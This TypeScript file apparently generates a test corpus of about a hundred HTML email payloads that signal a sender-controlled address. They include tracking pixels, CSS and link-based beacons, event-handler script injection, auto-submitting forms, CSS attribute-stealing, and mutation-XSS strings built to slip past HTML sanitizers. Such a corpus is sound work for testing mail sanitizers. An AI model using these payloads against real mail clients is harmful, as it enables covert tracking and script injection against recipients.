// Ways in which the HTML of a mail tells its sender that it was opened, or runs what the sender wrote.

export interface TrackerVector {
  readonly name: string;
  readonly html: string;
}

/** @param leak the address of a name of its own for the vector with this number, without a path */
export function trackerVectors(leak: (number: number) => string): readonly TrackerVector[] {
  const vectors: TrackerVector[] = [];
  const add = (name: string, html: (at: string) => string): void => {
    vectors.push({ name, html: html(leak(vectors.length)) });
  };
  const svg = (content: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${content}</svg>`;
  const hostOf = (at: string) => at.replace('http:', '');
  const run = (at: string) => `fetch('${at}/js')`;

  add('img', (at) => `<img src="${at}/a.png">`);
  add('img of one pixel', (at) => `<img src=${at}/p.gif width=1 height=1 style="display:none">`);
  add('img srcset', (at) => `<img srcset="${at}/a.png 1x, ${at}/b.png 2x">`);
  add('img without a scheme', (at) => `<img src="${hostOf(at)}/a.png">`);
  add('img with entities', (at) => `<img src="${at.replace('http', '&#104;&#x74;tp')}/a.png">`);
  add('img with backslashes', (at) => `<img src="${at.replace('//', '\\\\')}/a.png">`);
  add('img with line ends', (at) => `<img src="ht\ntp:${hostOf(at)}/a.png">`);
  add('image element', (at) => `<image src="${at}/a.png">`);
  add('picture source', (at) => `<picture><source srcset="${at}/a.png"><img alt="x"></picture>`);
  add('lazy img', (at) => `<img loading="eager" fetchpriority="high" src="${at}/a.png">`);
  add(
    'img attributionsrc',
    (at) => `<img attributionsrc="${at}/attr" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">`,
  );
  add('input image', (at) => `<input type="image" src="${at}/a.png">`);
  add('video poster', (at) => `<video poster="${at}/a.png"></video>`);
  add('video src', (at) => `<video src="${at}/a.mp4" autoplay muted></video>`);
  add('video source', (at) => `<video autoplay muted><source src="${at}/a.mp4"></video>`);
  add('audio', (at) => `<audio src="${at}/a.mp3" preload="auto"></audio>`);
  add('track', (at) => `<video src="data:video/mp4,"><track default kind="captions" src="${at}/a.vtt"></video>`);
  add('table background', (at) => `<table background="${at}/a.png"><tr><td>x</td></tr></table>`);
  add('cell background', (at) => `<table><tr><td background="${at}/a.png">x</td></tr></table>`);
  add('body background', (at) => `<body background="${at}/a.png">x`);
  add('style background', (at) => `<p style="background:url(${at}/a.png)">x</p>`);
  add('style background-image set', (at) => `<p style="background-image:image-set('${at}/a.png' 1x)">x</p>`);
  add('style list image', (at) => `<ul><li style="list-style-image:url('${at}/a.png')">x</li></ul>`);
  add('style border image', (at) => `<p style="border:9px solid;border-image:url(${at}/a.png) 1">x</p>`);
  add('style cursor', (at) => `<p style="cursor:url(${at}/a.cur),auto">x</p>`);
  add('style content', (at) => `<style>p::before{content:url(${at}/a.png)}</style><p>x</p>`);
  add('style mask', (at) => `<p style="mask-image:url(${at}/a.svg)">x</p>`);
  add('style filter', (at) => `<p style="filter:url(${at}/a.svg#f)">x</p>`);
  add('style shape', (at) => `<p style="float:left;shape-outside:url(${at}/a.png)">x</p>`);
  add('style with escapes', (at) => `<p style="background:\\75rl(${at}/a.png)">x</p>`);
  add('style by a variable', (at) => `<p style="--u:url(${at}/a.png);background:var(--u)">x</p>`);
  add('style element import', (at) => `<style>@import '${at}/a.css';</style>`);
  add('style element import by url', (at) => `<style>@import url(${hostOf(at)}/a.css);</style>`);
  add(
    'style element font',
    (at) => `<style>@font-face{font-family:f;src:url(${at}/a.woff2)}p{font-family:f}</style><p>x</p>`,
  );
  add('style element media', (at) => `<style>@media all{p{background:url(${at}/a.png)}}</style><p>x</p>`);
  add('style element supports', (at) => `<style>@supports (color:red){p{background:url(${at}/a.png)}}</style><p>x</p>`);
  add(
    'style element attribute stealing',
    (at) => `<style>input[value^="a"]{background:url(${at}/a)}</style><input value="abc">`,
  );
  add('link stylesheet', (at) => `<link rel="stylesheet" href="${at}/a.css">`);
  add('link icon', (at) => `<link rel="icon" href="${at}/a.ico">`);
  add('link preload', (at) => `<link rel="preload" as="image" href="${at}/a.png">`);
  add('link modulepreload', (at) => `<link rel="modulepreload" href="${at}/a.mjs">`);
  add('link prefetch', (at) => `<link rel="prefetch" href="${at}/a.html">`);
  add('link prerender', (at) => `<link rel="prerender" href="${at}/a.html">`);
  add('link preconnect', (at) => `<link rel="preconnect" href="${at}">`);
  add('link dns-prefetch', (at) => `<link rel="dns-prefetch" href="${at}">`);
  add(
    'link dns-prefetch after permission',
    (at) => `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${hostOf(at)}">`,
  );
  add('link manifest', (at) => `<link rel="manifest" href="${at}/a.json">`);
  add('meta refresh', (at) => `<meta http-equiv="refresh" content="0;url=${at}/r">`);
  add(
    'meta policy report',
    (at) => `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri ${at}/r"><img src="x">`,
  );
  add('base and a relative img', (at) => `<base href="${at}/"><img src="a.png">`);
  add('iframe', (at) => `<iframe src="${at}/f"></iframe>`);
  add('iframe srcdoc', (at) => `<iframe srcdoc="<img src='${at}/a.png'>"></iframe>`);
  add('iframe of data', (at) => `<iframe src="data:text/html,<img src='${at}/a.png'>"></iframe>`);
  add('iframe of script', (at) => `<iframe src="javascript:${run(at)}"></iframe>`);
  add('frameset', (at) => `<frameset><frame src="${at}/f"></frameset>`);
  add('object', (at) => `<object data="${at}/o"></object>`);
  add('object of a kind', (at) => `<object type="text/html" data="${at}/o.html"></object>`);
  add('embed', (at) => `<embed src="${at}/e">`);
  add('applet and param', (at) => `<object data="${at}/x"><param name="movie" value="${at}/m"></object>`);
  add('portal and fenced frame', (at) => `<portal src="${at}/p"></portal><fencedframe src="${at}/q"></fencedframe>`);
  add(
    'form sent by itself',
    (at) => `<form id="f" action="${at}/s"><input name="a" value="b"></form><script>f.submit()</script>`,
  );
  add(
    'form with a button',
    (at) =>
      `<form action="${at}/s"><button formaction="${at}/t">x</button></form><script>document.querySelector('button').click()</script>`,
  );
  add('link clicked by itself', (at) => `<a id="a" href="${at}/c" ping="${at}/ping">x</a><script>a.click()</script>`);
  add('script', (at) => `<script>${run(at)}</script>`);
  add('script src', (at) => `<script src="${at}/a.js"></script>`);
  add('script module', (at) => `<script type="module">import '${at}/a.mjs'</script>`);
  add(
    'script import map and rules',
    (at) => `<script type="speculationrules">{"prefetch":[{"urls":["${at}/p"]}]}</script>`,
  );
  add('script web socket', (at) => `<script>new WebSocket('${at.replace('http', 'ws')}/w')</script>`);
  add('script beacon', (at) => `<script>navigator.sendBeacon('${at}/b')</script>`);
  add('script event source', (at) => `<script>new EventSource('${at}/e')</script>`);
  add('script worker', (at) => `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${at}/w')"])))</script>`);
  add('script image', (at) => `<script>new Image().src='${at}/i'</script>`);
  add('onerror', (at) => `<img src="x:" onerror="${run(at)}">`);
  add('onload of a style', (at) => `<style onload="${run(at)}"></style>`);
  add('onfocus', (at) => `<input autofocus onfocus="${run(at)}">`);
  add('ontoggle', (at) => `<details open ontoggle="${run(at)}">x</details>`);
  add(
    'onanimationstart',
    (at) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${run(at)}">x</p>`,
  );
  add('svg onload', (at) => svg(`<g onload="${run(at)}"/>`).replace('<svg ', `<svg onload="${run(at)}" `));
  add('svg image', (at) => svg(`<image href="${at}/a.png" width="9" height="9"/>`));
  add('svg xlink image', (at) => svg(`<image xlink:href="${at}/a.png" width="9" height="9"/>`));
  add('svg use', (at) => svg(`<use href="${at}/a.svg#x"/>`));
  add('svg feImage', (at) =>
    svg(`<filter id="f"><feImage href="${at}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
  );
  add('svg script', (at) => svg(`<script>${run(at)}</script>`));
  add('svg animated address', (at) =>
    svg(`<image width="9" height="9"><set attributeName="href" to="${at}/a.png"/></image>`),
  );
  add('svg foreign object', (at) =>
    svg(
      `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${at}/a.png"/></foreignObject>`,
    ),
  );
  add('svg style', (at) => svg(`<style>rect{fill:url(${at}/a.svg#x)}</style><rect width="9" height="9"/>`));
  add(
    'mathml',
    (at) =>
      `<math><mtext><img src="${at}/a.png"></mtext><maction actiontype="statusline" xlink:href="${at}/m">x</maction></math>`,
  );
  add(
    'template and shadow root',
    (at) => `<div><template shadowrootmode="open"><img src="${at}/a.png"></template></div>`,
  );
  add('noscript', (at) => `<noscript><p title="</noscript><img src=x: onerror=${run(at)}>">`);
  add(
    'mutated math and style',
    (at) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run(at)}&gt;">`,
  );
  add('mutated svg and p', (at) => `<svg></p><style><a id="</style><img src=x: onerror=${run(at)}>">`);
  add('mutated form', (at) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run(at)}>`);
  add(
    'mutated listing',
    (at) => `<listing>&lt;img src=x: onerror=${run(at)}&gt;</listing><script>document.body.innerHTML+=''</script>`,
  );
  add('mutated textarea', (at) => `<textarea></textarea/><img src=x: onerror="${run(at)}">`);
  add(
    'title breaks out',
    (at) => `<title>&lt;/title&gt;</title><img alt="</title><img src=x: onerror=${run(at)}>" src="${at}/a.png">`,
  );
  add('xmp and plaintext', (at) => `<xmp></xmp><img src="${at}/a.png"><plaintext><img src="${at}/b.png">`);
  add('comment that ends early', (at) => `<!--><img src="${at}/a.png">-->`);
  add(
    'comment of Internet Explorer',
    (at) => `<!--[if true]><img src="${at}/a.png"><![endif]--><![if true]><img src="${at}/b.png"><![endif]>`,
  );
  add('CDATA', (at) => `<![CDATA[<img src="${at}/a.png">]]><img src="${at}/b.png">`);
  add('attributes in odd places', (at) => `<p/a="><img src=x: onerror=${run(at)}>"><img/src="${at}/a.png"/alt=x>`);
  add('NUL within a tag', (at) => `<i\0mg src="${at}/a.png"><img src="${at}/\0b.png">`);
  add('unclosed tag', (at) => `<img src="${at}/a.png" alt="`);
  add('popover and dialog', (at) => `<dialog open><img src="${at}/a.png"></dialog>`);
  add(
    'picture of a part that is none',
    (at) => `<img src="cid:none"><img src="cid:${at}/a.png"><img src="blob:${at}/b">`,
  );
  add('name of a known mark', (at) => `<a data-mark="0" href="${at}/x"><img data-mark="0" src="${at}/a.png">x</a>`);
  return vectors;
}
